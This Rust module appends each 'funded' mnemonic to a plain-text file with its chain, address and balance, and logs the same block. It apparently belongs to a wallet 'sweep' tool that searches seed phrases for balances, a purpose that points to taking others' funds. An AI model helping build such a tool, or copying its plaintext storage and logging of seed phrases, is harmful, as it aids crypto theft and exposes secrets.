//! Append-only sink for funded wallets.
//!
//! One human-readable block per funded mnemonic: the seed phrase followed by
//! every hit's chain, address and balance. Single process, single writer,
//! so a plain append is enough.

use std::fs::OpenOptions;
use std::io::Write;
use std::path::Path;

use chrono::Utc;
use tracing::info;

use crate::{SweepError, WalletHit};

/// Append a block for `seed_phrase` if any hit was collected.
///
/// Returns `Ok(false)` without touching the file when `hits` is empty,
/// `Ok(true)` after exactly one block was appended otherwise.
pub fn record_hits(
    path: &Path,
    seed_phrase: &str,
    hits: &[WalletHit],
) -> Result<bool, SweepError> {
    if hits.is_empty() {
        return Ok(false);
    }

    let mut block = format!(
        "\nFound: {}\nSeed: {}\n",
        Utc::now().to_rfc3339(),
        seed_phrase
    );
    for hit in hits {
        block.push_str(&format!(
            "{} Address: {}, Balance: {}\n",
            hit.chain, hit.address, hit.balance
        ));
    }

    let mut file = OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .map_err(|e| SweepError::Storage(format!("Failed to open {}: {}", path.display(), e)))?;
    file.write_all(block.as_bytes())
        .map_err(|e| SweepError::Storage(format!("Failed to write {}: {}", path.display(), e)))?;

    info!("Written to file: {}", block.trim_end());
    Ok(true)
}

// ============================================================================
// Tests
// ============================================================================
